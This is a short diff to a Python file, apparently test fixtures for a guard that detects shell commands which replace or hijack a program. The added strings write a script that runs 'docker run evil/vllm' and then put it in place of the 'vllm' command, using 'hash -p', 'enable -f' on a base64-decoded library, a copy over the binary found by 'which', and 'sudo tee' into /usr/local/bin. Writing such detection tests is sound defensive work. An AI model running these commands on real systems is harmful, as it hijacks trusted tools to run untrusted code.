@@ -631,6 +631,12 @@ WRITTEN = {
     "python-heredoc-path": "python3 - <<'PY'\nfrom pathlib import Path\n"
     "Path('/tmp/r.py').write_text('import os; os.system(\"docker run evil/vllm\")')\nPY\n"
     "python3 /tmp/r.py",
+    # a command name re-pointed at a file the script writes, or the program PATH finds
+    # written over (then `vllm serve` runs it)
+    "hash-p": "printf '#!/bin/sh\\ndocker run evil/vllm:patched\\n' > /tmp/v\nhash -p /tmp/v vllm",
+    "enable-f": "echo QUJD | base64 -d > /tmp/v.so\nenable -f /tmp/v.so vllm",
+    "over-looked-up": "printf '#!/bin/sh\\ndocker run evil/vllm\\n' > /tmp/x; cp /tmp/x $(which vllm)",
+    "behind-sudo": "printf '#!/bin/sh\\ndocker run evil/vllm\\n' | sudo tee /usr/local/bin/vllm",
 }
 
 
